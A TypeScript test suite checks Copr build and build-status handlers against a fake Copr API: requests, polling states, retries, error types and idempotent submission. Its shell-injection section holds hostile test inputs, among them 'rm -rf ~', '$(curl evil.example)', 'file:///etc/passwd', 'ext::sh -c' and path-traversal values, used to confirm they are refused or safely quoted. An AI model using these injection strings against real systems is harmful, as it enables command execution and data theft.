/**
 * copr.build and copr.build_status against a fake Copr speaking API v3 over real HTTP: the
 * requests as sent (auth, project, chroot, script, build options), chroot states through to
 * success or CoprBuildFailed, how 4xx/5xx/429 and network failures become (non-)retryable
 * errors, no second build after a crash, and inputs that try to reach the shell refused.
 */
import { execFileSync } from 'node:child_process';
import { existsSync, mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';

import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';

import type {
  CoprBuildInput,
  CoprBuildRef,
  CoprSubmittedBuild,
} from '../../src/compiler/packit/handler-inputs.js';
import type { Handler } from '../../src/handlers/types.js';
import { FakeCopr } from '../support/fake-copr.js';
import { testContext } from './context.js';
import {
  closedUrl,
  coprBuildInput as input,
  COPR_LOGIN,
  COPR_TOKEN,
  packitByName,
  rejection,
  type PackitUnderTest,
} from './packit-helpers.js';

const SHA = '0123456789abcdef0123456789abcdef01234567';
const CHROOT = 'fedora-41-x86_64';

const copr = new FakeCopr()
  .addUser(COPR_LOGIN, COPR_TOKEN, 'alice')
  .addGroup('@packagers', ['alice']);
let build: Handler;
let status: Handler;

function handlers(settings: PackitUnderTest['copr'] = {}) {
  const byName = packitByName({
    copr: { url: copr.url, login: COPR_LOGIN, token: COPR_TOKEN, ...settings },
  });
  return { build: byName.get('copr.build')!, status: byName.get('copr.build_status')! };
}

beforeAll(async () => {
  await copr.start();
  ({ build, status } = handlers());
});
afterAll(() => copr.stop());
beforeEach(() => {
  copr.clearFaults();
  copr.requests.length = 0;
});

function basic(login: string, token: string): string {
  return `Basic ${Buffer.from(`${login}:${token}`).toString('base64')}`;
}

describe('copr.build', () => {
  it('makes the project with the chroot and submits one custom-script build of the commit', async () => {
    const { context, heartbeats } = testContext();
    const ref = (await build.run(input(), context)) as CoprSubmittedBuild;

    const made = copr.builds().at(-1)!;
    expect(ref).toEqual({
      build_id: made.id,
      owner: 'alice',
      project: 'acme-widgets-7',
      chroots: [CHROOT],
      url: `${copr.url}/coprs/alice/acme-widgets-7/build/${made.id}/`,
    });
    expect(copr.requests.map((r) => `${r.method} ${r.path} ${r.status}`)).toEqual([
      'GET /api_3/auth-check 200',
      'GET /api_3/project 404',
      'POST /api_3/project/add/alice 200',
      'POST /api_3/build/create/custom 200',
    ]);
    for (const request of copr.requests)
      expect(request.headers.authorization).toBe(basic(COPR_LOGIN, COPR_TOKEN));

    const project = copr.project('alice', 'acme-widgets-7')!;
    expect(project.chroots).toEqual([CHROOT]);
    expect(project.settings).toMatchObject({
      name: 'acme-widgets-7',
      chroots: [CHROOT],
      description: 'Builds of acme/widgets #7 by forgeflow',
      unlisted_on_hp: true,
      enable_net: true,
      bootstrap: 'on',
      module_hotfixes: false,
      delete_after_days: 60,
    });

    const body = made.body;
    expect(made.method).toBe('custom');
    expect(body).toMatchObject({
      ownername: 'alice',
      projectname: 'acme-widgets-7',
      chroots: [CHROOT],
      timeout: 3600,
      enable_net: true,
      bootstrap: 'on',
      builddeps: 'git tar rpmdevtools python3-setuptools make',
      resultdir: 'forgeflow-sources',
    });
    const script = body.script as string;
    expect(script).toContain(`committish='${SHA}'\n`);
    expect(script).toContain(`clone_url='https://github.com/acme/widgets.git'\n`);
    expect(script).toContain(`specfile='widgets.spec'\n`);
    expect(script).toContain('git -c advice.detachedHead=false checkout --quiet "$committish"');

    // The build id is recorded before the handler returns.
    expect(heartbeats).toEqual([
      { copr_build_id: made.id, owner: 'alice', project: 'acme-widgets-7', chroots: [CHROOT] },
    ]);
  });

  it('submits ONE build for all the chroots of a job, each chroot with its own settings', async () => {
    const chroots = ['fedora-41-x86_64', 'fedora-41-aarch64', 'fedora-42-x86_64', 'epel-9-x86_64'];
    copr.addProject('alice', 'four', ['fedora-41-x86_64']);
    const ref = (await build.run(
      input({
        project: 'four',
        chroots,
        additional_repos: ['copr://alice/deps'],
        chroot_settings: { 'epel-9-x86_64': { additional_packages: ['epel-rpm-macros'] } },
      }),
      testContext().context,
    )) as CoprSubmittedBuild;
    expect(copr.requests.map((r) => `${r.method} ${r.path}`)).toEqual([
      'GET /api_3/project',
      'PUT /api_3/project/edit/alice/four',
      ...chroots.map((c) => `PUT /api_3/project-chroot/edit/alice/four/${c}`),
      'POST /api_3/build/create/custom',
    ]);
    expect(copr.project('alice', 'four')!.chroots).toEqual(chroots);
    expect(copr.project('alice', 'four')!.chrootSettings.get('epel-9-x86_64')).toMatchObject({
      additional_packages: ['epel-rpm-macros'],
      additional_repos: ['copr://alice/deps'],
    });
    expect(copr.project('alice', 'four')!.chrootSettings.get('fedora-41-x86_64')).toMatchObject({
      additional_packages: [],
      additional_repos: ['copr://alice/deps'],
    });
    expect(copr.builds().at(-1)!.body.chroots).toEqual(chroots);
    expect(ref).toMatchObject({ build_id: copr.builds().at(-1)!.id, chroots });
  });

  it('refuses a bad or missing chroot list before calling Copr', async () => {
    for (const chroots of [[], ['fedora-41-x86_64', 'a b'], Array(201).fill('fedora-41-x86_64')]) {
      const error = await rejection(build.run(input({ chroots }), testContext().context));
      expect(error.type).toBe('CoprBadInput');
    }
    expect(copr.requests).toEqual([]);
  });

  it('keeps a pipeline’s one `chroot`, answered back so copr.build_status can poll the output', async () => {
    const one: Partial<CoprBuildInput> & { chroot?: string } = input({ project: 'one' });
    delete one.chroots;
    const ref = await build.run({ ...one, chroot: CHROOT }, testContext().context);
    expect(ref).toMatchObject({ chroots: [CHROOT], chroot: CHROOT });
  });

  it('adds a missing chroot to an existing project, keeping its chroots, and applies chroot settings', async () => {
    copr.addProject('alice', 'widgets-main', ['fedora-40-x86_64']);
    await build.run(
      input({
        project: 'widgets-main',
        additional_packages: ['gcc'],
        additional_repos: ['copr://alice/deps'],
        additional_modules: 'nodejs:20',
        with_opts: ['docs'],
        without_opts: ['tests'],
      }),
      testContext().context,
    );
    expect(copr.requests.map((r) => `${r.method} ${r.path}`)).toEqual([
      'GET /api_3/project',
      'PUT /api_3/project/edit/alice/widgets-main',
      `PUT /api_3/project-chroot/edit/alice/widgets-main/${CHROOT}`,
      'POST /api_3/build/create/custom',
    ]);
    const project = copr.project('alice', 'widgets-main')!;
    expect(project.chroots).toEqual(['fedora-40-x86_64', CHROOT]);
    expect(project.chrootSettings.get(CHROOT)).toEqual({
      additional_packages: ['gcc'],
      additional_repos: ['copr://alice/deps'],
      additional_modules: 'nodejs:20',
      with_opts: ['docs'],
      without_opts: ['tests'],
    });
  });

  it('builds in a group project and a configured owner without asking who the token is', async () => {
    const ref = (await build.run(
      input({ owner: '@packagers', project: 'widgets' }),
      testContext().context,
    )) as CoprBuildRef;
    expect(ref.url).toBe(`${copr.url}/coprs/g/packagers/widgets/build/${ref.build_id}/`);
    expect(copr.requests.map((r) => `${r.method} ${r.path}`)).toContain(
      'POST /api_3/project/add/%40packagers',
    );
    copr.requests.length = 0;
    const configured = handlers({ owner: 'alice' }).build;
    await configured.run(input({ project: 'widgets-owned' }), testContext().context);
    expect(copr.requests.some((r) => r.path === '/api_3/auth-check')).toBe(false);
  });

  it('does not submit again when an earlier attempt heartbeated the build it submitted', async () => {
    const first = (await build.run(
      input({ project: 'once' }),
      testContext().context,
    )) as CoprSubmittedBuild;
    const builds = copr.builds().length;
    copr.requests.length = 0;

    const { context } = testContext();
    context.lastHeartbeatDetails = {
      copr_build_id: first.build_id,
      owner: 'alice',
      project: 'once',
      chroots: [CHROOT],
    };
    context.attempt = 2;
    expect(await build.run(input({ project: 'once' }), context)).toEqual(first);
    expect(copr.builds()).toHaveLength(builds);
    expect(copr.requestsTo('POST', '/build/create')).toHaveLength(0);

    // Details of other chroots, or of a build Copr no longer has, do not stop a build.
    context.lastHeartbeatDetails = {
      ...(context.lastHeartbeatDetails as object),
      chroots: [CHROOT, 'x'],
    };
    await build.run(input({ project: 'once' }), context);
    context.lastHeartbeatDetails = {
      copr_build_id: 99,
      owner: 'alice',
      project: 'once',
      chroots: [CHROOT],
    };
    await build.run(input({ project: 'once' }), context);
    expect(copr.builds()).toHaveLength(builds + 2);
  });

  it('submits once more when a concurrent edit dropped the chroot between ensure and submit', async () => {
    copr.addProject('alice', 'raced', []);
    // Copr refuses the build as if another build's edit had replaced the chroot list.
    copr.failNext('POST', '/build/create/custom', 400, 1, {
      body: {
        error: `Bad request parameters: {'chroots': ["'${CHROOT}' is not a valid choice for this field."]}`,
      },
    });
    const ref = (await build.run(
      input({ project: 'raced' }),
      testContext().context,
    )) as CoprSubmittedBuild;
    expect(copr.build(ref.build_id)).toBeDefined();
    expect(copr.requestsTo('POST', '/build/create/custom').map((r) => r.status)).toEqual([
      400, 200,
    ]);
  });
});

describe('copr.build: failures', () => {
  it('retries a 5xx and a network failure (CoprUnavailable), honouring Retry-After', async () => {
    copr.failNext('POST', '/build/create', 503, 1, { headers: { 'retry-after': '12' } });
    const error = await rejection(build.run(input({ project: 'outage' }), testContext().context));
    expect([error.type, error.nonRetryable, error.retryAfterMs]).toEqual([
      'CoprUnavailable',
      false,
      12_000,
    ]);
    expect(error.message).toBe('Copr POST /build/create/custom answered 503: Service Unavailable');

    const down = packitByName({
      copr: { url: await closedUrl(), login: COPR_LOGIN, token: COPR_TOKEN, owner: 'alice' },
    }).get('copr.build')!;
    const network = await rejection(down.run(input(), testContext().context));
    expect([network.type, network.nonRetryable]).toEqual(['CoprUnavailable', false]);
    expect(network.message).toMatch(/^Copr GET \/project failed: ECONNREFUSED/);
  });

  it('waits as long as a 429 asks (CoprRateLimited)', async () => {
    copr.failNext('GET', '/project', 429, 1, { headers: { 'retry-after': '7' } });
    const error = await rejection(build.run(input({ project: 'busy' }), testContext().context));
    expect([error.type, error.nonRetryable, error.retryAfterMs]).toEqual([
      'CoprRateLimited',
      false,
      7_000,
    ]);
  });

  it('fails a bad login for good (CoprAuthError) naming the settings, without the token', async () => {
    const wrong = handlers({ token: 'not-the-token-at-all' }).build;
    const error = await rejection(wrong.run(input(), testContext().context));
    expect([error.type, error.nonRetryable]).toEqual(['CoprAuthError', true]);
    expect(error.message).toContain('Login invalid/expired');
    expect(error.message).toContain('FORGEFLOW_COPR_TOKEN');
    expect(error.message).not.toContain('not-the-token-at-all');
  });

  it('shows why Copr refused: 403 no permission, 400 bad parameters, 404 no project', async () => {
    copr.addUser('bob-login', 'bob-token', 'bob').addProject('bob', 'private', [CHROOT]);
    const denied = await rejection(
      build.run(input({ owner: 'bob', project: 'private' }), testContext().context),
    );
    expect([denied.type, denied.nonRetryable]).toEqual(['CoprAuthError', true]);
    expect(denied.message).toContain('User alice is not allowed to build in the copr: bob/private');

    copr.failNext('POST', '/build/create', 400, 1, {
      body: {
        error: "Bad request parameters: {'timeout': ['Number must be between 0 and 108000.']}",
      },
    });
    const bad = await rejection(build.run(input({ project: 'params' }), testContext().context));
    expect([bad.type, bad.nonRetryable]).toEqual(['CoprRequestError', true]);
    expect(bad.message).toBe(
      "Copr POST /build/create/custom answered 400: Bad request parameters: {'timeout': ['Number must be between 0 and 108000.']}",
    );

    const missing = await rejection(
      status.run({ build_id: 424242, chroot: CHROOT }, testContext().context),
    );
    expect([missing.type, missing.nonRetryable]).toEqual(['CoprNotFound', true]);
    expect(missing.message).toContain('Build 424242 does not exist.');
  });

  it('fails NotConfigured naming FORGEFLOW_COPR_TOKEN / FORGEFLOW_COPR_LOGIN when they are not set', async () => {
    const none = handlers({ token: null, login: null });
    for (const [handler, args] of [
      [none.build, input()],
      [none.status, { build_id: 1, chroot: CHROOT }],
    ] as const) {
      const error = await rejection(handler.run(args, testContext().context));
      expect([error.type, error.nonRetryable]).toEqual(['NotConfigured', true]);
      expect(error.message).toContain('FORGEFLOW_COPR_TOKEN');
    }
    const noLogin = await rejection(
      handlers({ login: null }).build.run(input(), testContext().context),
    );
    expect(noLogin.message).toContain('FORGEFLOW_COPR_LOGIN');
    expect(copr.requests).toHaveLength(0);
  });
});

describe('copr.build: nothing from the event reaches a shell', () => {
  const refused: [string, Partial<CoprBuildInput>, RegExp][] = [
    ['a branch name', { committish: 'main' }, /committish must be a commit hash/],
    ['a command in the committish', { committish: `${SHA.slice(0, 8)}; rm -rf ~` }, /commit hash/],
    ['a substitution', { committish: '$(curl evil.example)' }, /commit hash/],
    ['credentials in the URL', { clone_url: 'https://u:pw@github.com/a/b' }, /credentials/],
    ['another scheme', { clone_url: 'file:///etc/passwd' }, /http\(s\) URL/],
    ['an ext:: transport', { clone_url: 'ext::sh -c touch% /tmp/pwned' }, /whitespace|URL/],
    ['a newline', { clone_url: 'https://a.example/x\ntouch /tmp/pwned' }, /control|whitespace/],
    ['a path out of the repository', { subdirectory: '../../etc' }, /inside the repository/],
    ['an absolute spec path', { specfile_path: '/etc/shadow' }, /inside the repository/],
    ['a build dependency with a space', { srpm_build_deps: ['a b'] }, /not a package name/],
  ];
  for (const [what, overrides, message] of refused) {
    it(`refuses ${what} before calling Copr (CoprBadInput)`, async () => {
      const error = await rejection(build.run(input(overrides), testContext().context));
      expect([error.type, error.nonRetryable]).toEqual(['CoprBadInput', true]);
      expect(error.message).toMatch(message);
      expect(copr.requests).toHaveLength(0);
    });
  }

  it('quotes what it allows so that the shell sees the exact values and runs nothing', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'forgeflow-quote-'));
    try {
      const marker = join(dir, 'pwned');
      const hostile = `pkg'; touch ${marker}; echo '$(touch ${marker})\`touch ${marker}\``;
      const url = "https://git.example/$(id)/repo'.git";
      const ref = (await build.run(
        input({ project: 'quoted', clone_url: url, subdirectory: hostile, specfile_path: null }),
        testContext().context,
      )) as CoprBuildRef;
      const script = copr.build(ref.build_id)!.body.script as string;
      // Run the script's assignments and print the values back.
      const assignments = script.split('\n').filter((line) => /^[a-z_]+='/.test(line));
      const printed = execFileSync(
        '/bin/sh',
        [
          '-c',
          `${assignments.join('\n')}\nprintf '%s\\n' "$clone_url" "$subdirectory" "$specfile"`,
        ],
        { encoding: 'utf8' },
      );
      expect(printed).toBe(`${new URL(url).href}\n${hostile}\n\n`);
      expect(existsSync(marker)).toBe(false);
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });
});

describe('copr.build_status', () => {
  async function submitted(project: string): Promise<CoprBuildRef> {
    const made = (await build.run(input({ project }), testContext().context)) as CoprSubmittedBuild;
    return {
      build_id: made.build_id,
      owner: made.owner,
      project: made.project,
      chroot: CHROOT,
      url: made.url,
    };
  }

  const said = (s: unknown) => (s as { status: { description: string } }).status.description;

  it('tells where the build is in packit-service’s words, SRPM first, linking to the build', async () => {
    copr.scriptNextSource(['pending', 'running', 'succeeded']);
    copr.scriptNextBuild({
      [CHROOT]: ['waiting', 'waiting', 'pending', 'starting', 'running', 'succeeded'],
    });
    const ref = await submitted('lifecycle');
    const seen = [];
    for (let i = 0; i < 6; i++) seen.push(await status.run(ref, testContext().context));
    expect(seen.map(said)).toEqual([
      'SRPM build in Copr was submitted...',
      'SRPM build is in progress...',
      'SRPM build succeeded. Waiting for RPM build to start...',
      'Starting RPM build...',
      'RPM build is in progress...',
      'RPMs were built successfully.',
    ]);
    expect((seen[0] as { status: unknown }).status).toEqual({
      state: 'running',
      description: 'SRPM build in Copr was submitted...',
      target_url: `${copr.url}/coprs/alice/lifecycle/build/${ref.build_id}/`,
    });
    // The SRPM build is read only while the chroot has not started.
    expect(copr.requestsTo('GET', '/build/source-chroot')).toHaveLength(3);
  });

  it('reports the chroot state until it succeeds, echoing the build ref', async () => {
    copr.scriptNextBuild({ [CHROOT]: ['importing', 'pending', 'running', 'succeeded'] });
    const ref = await submitted('poll-ok');
    const seen = [];
    for (let i = 0; i < 4; i++) seen.push(await status.run(ref, testContext().context));
    expect(
      seen.map((s) => [(s as { state: string }).state, (s as { ended: boolean }).ended]),
    ).toEqual([
      ['importing', false],
      ['pending', false],
      ['running', false],
      ['succeeded', true],
    ]);
    expect(seen[3]).toMatchObject({
      ...ref,
      state: 'succeeded',
      ended: true,
      result_url: `${copr.url}/results/alice/poll-ok/${CHROOT}/${String(ref.build_id).padStart(8, '0')}-widgets/`,
    });
    expect(copr.requestsTo('GET', '/build-chroot')[0]?.query).toEqual({
      build_id: String(ref.build_id),
      chrootname: CHROOT,
    });
  });

  it('tells what a chroot that built made: its SRPM, build log, package NVR and RPMs', async () => {
    copr.scriptNextBuild({ [CHROOT]: ['running', 'succeeded'] });
    const ref = await submitted('poll-results');
    const running = await status.run(ref, testContext().context);
    expect(running).not.toHaveProperty('rpms');
    expect(copr.requestsTo('GET', '/build-chroot/built-packages')).toHaveLength(0);
    copr.setBuiltPackages(ref.build_id, CHROOT, [
      { name: 'widgets', epoch: 0, version: '1.0', release: '1.fc41', arch: 'x86_64' },
      { name: 'widgets-devel', epoch: 2, version: '1.0', release: '1.fc41', arch: 'x86_64' },
      { name: 'widgets', epoch: null, version: '1.0', release: '1.fc41', arch: 'src' },
      // Not an RPM's words: left out.
      { name: 'x; rm -rf /', epoch: 0, version: '1', release: '1', arch: 'noarch' },
    ]);
    const id = String(ref.build_id).padStart(8, '0');
    expect(await status.run(ref, testContext().context)).toMatchObject({
      state: 'succeeded',
      ended: true,
      srpm_url: `${copr.url}/results/alice/poll-results/srpm-builds/${id}/widgets-1.0-1.src.rpm`,
      build_log_url: `${copr.url}/results/alice/poll-results/${CHROOT}/${id}-widgets/builder-live.log`,
      package_nvr: 'widgets-1.0-1.fc41',
      rpms: ['widgets-1.0-1.fc41.x86_64', 'widgets-devel-2:1.0-1.fc41.x86_64'],
    });
    expect(copr.requestsTo('GET', '/build-chroot/built-packages')[0]?.query).toEqual({
      build_id: String(ref.build_id),
      chrootname: CHROOT,
    });
  });

  it('ends on forked and skipped (built before) too', async () => {
    for (const state of ['forked', 'skipped']) {
      copr.scriptNextBuild([state]);
      const ref = await submitted(`poll-${state}`);
      expect(await status.run(ref, testContext().context)).toMatchObject({ state, ended: true });
    }
  });

  it('fails for good with CoprBuildFailed and the results URL when the chroot failed or was canceled', async () => {
    copr.scriptNextBuild({ [CHROOT]: ['running', 'failed'] });
    const ref = await submitted('poll-failed');
    expect(await status.run(ref, testContext().context)).toMatchObject({ ended: false });
    const failed = await rejection(status.run(ref, testContext().context));
    expect([failed.type, failed.nonRetryable]).toEqual(['CoprBuildFailed', true]);
    expect(failed.message).toBe(
      `Copr build ${ref.build_id} failed in ${CHROOT}: ${copr.url}/results/alice/poll-failed/${CHROOT}/${String(ref.build_id).padStart(8, '0')}-widgets/`,
    );
    expect(failed.details).toMatchObject({
      state: 'failed',
      build_id: ref.build_id,
      status: { description: 'RPMs failed to be built.', target_url: ref.url },
    });

    copr.setChrootState(ref.build_id, CHROOT, 'canceled');
    const canceled = await rejection(status.run(ref, testContext().context));
    expect(canceled.type).toBe('CoprBuildFailed');
    expect(canceled.message).toContain('was canceled');
  });

  it('fails when the SRPM build failed and the chroot will never start', async () => {
    copr.scriptNextBuild({ source: 'failed' });
    const ref = await submitted('poll-srpm');
    const error = await rejection(status.run(ref, testContext().context));
    expect([error.type, error.nonRetryable]).toEqual(['CoprBuildFailed', true]);
    expect(error.message).toContain('its SRPM build failed, so fedora-41-x86_64 was not built');
    expect(error.message).toContain(ref.url);
    expect(error.details).toMatchObject({
      status: { description: 'SRPM build failed, check the logs for details.' },
    });
  });

  describe('a run retry of a chroot that failed', () => {
    const OTHER = 'fedora-42-x86_64';
    /** A job's build of two chroots in which CHROOT failed, and CHROOT's node's input. */
    async function failedJob(project: string, runAttempt: number) {
      copr.scriptNextBuild({ [CHROOT]: ['failed'], [OTHER]: ['succeeded'] });
      const job = (await build.run(
        input({ project, chroots: [CHROOT, OTHER] }),
        testContext().context,
      )) as CoprSubmittedBuild;
      const { build_id, owner, url } = job;
      const rebuild = {
        run_attempt: runAttempt,
        build_run_attempt: 1 as number | null,
        build: input({ project, chroots: [CHROOT] }),
      };
      return { job, follow: { build_id, owner, project, chroot: CHROOT, url, rebuild } };
    }

    it('the first run attempt follows the failed build and fails, building nothing (so does an unknown one)', async () => {
      const { follow } = await failedJob('retry-first', 1);
      const builds = copr.builds().length;
      expect((await rejection(status.run(follow, testContext().context))).type).toBe(
        'CoprBuildFailed',
      );
      // Nor does a later one whose build's submitter did not say which attempt it was.
      const unknown = { ...follow, rebuild: { ...follow.rebuild, run_attempt: 2 } };
      unknown.rebuild.build_run_attempt = null;
      expect((await rejection(status.run(unknown, testContext().context))).type).toBe(
        'CoprBuildFailed',
      );
      expect(copr.builds()).toHaveLength(builds);
    });

    it('a later run attempt builds the chroot alone and follows that build, once across a crash', async () => {
      const { job, follow } = await failedJob('retry-later', 2);
      copr.scriptNextBuild({ [CHROOT]: ['pending', 'succeeded'] });
      const { context, heartbeats } = testContext();
      const first = await status.run(follow, context);
      const rebuilt = copr.builds().at(-1)!;
      expect(rebuilt.id).not.toBe(job.build_id);
      expect([...rebuilt.chroots.keys()]).toEqual([CHROOT]);
      expect(heartbeats).toEqual([
        { copr_build_id: rebuilt.id, owner: 'alice', project: 'retry-later', chroots: [CHROOT] },
      ]);
      expect(first).toMatchObject({
        build_id: rebuilt.id,
        chroot: CHROOT,
        url: `${copr.url}/coprs/alice/retry-later/build/${rebuilt.id}/`,
        state: 'pending',
        ended: false,
      });
      expect(first).not.toHaveProperty('rebuild');

      // The worker died before the attempt ended: the next one finds the build it submitted.
      const again = testContext().context;
      again.lastHeartbeatDetails = heartbeats[0];
      again.attempt = 3;
      expect(await status.run(follow, again)).toMatchObject({ build_id: rebuilt.id });
      expect(copr.builds().at(-1)!.id).toBe(rebuilt.id);
      // Its poll (the first call's output as input) follows the new build to its end.
      expect(await status.run(first, testContext().context)).toMatchObject({
        build_id: rebuilt.id,
        state: 'succeeded',
        ended: true,
      });
    });

    it('refuses a rebuild of other chroots than its own (CoprBadInput), building nothing', async () => {
      const { follow } = await failedJob('retry-bad', 2);
      const builds = copr.builds().length;
      follow.rebuild.build.chroots = [CHROOT, OTHER];
      const error = await rejection(status.run(follow, testContext().context));
      expect([error.type, error.nonRetryable]).toEqual(['CoprBadInput', true]);
      expect(copr.builds()).toHaveLength(builds);
    });
  });

  it('retries a 429 on a poll with the wait Copr asked for', async () => {
    const ref = await submitted('poll-busy');
    copr.failNext('GET', '/build-chroot', 429, 1, { headers: { 'retry-after': '30' } });
    const error = await rejection(status.run(ref, testContext().context));
    expect([error.type, error.retryAfterMs]).toEqual(['CoprRateLimited', 30_000]);
  });
});
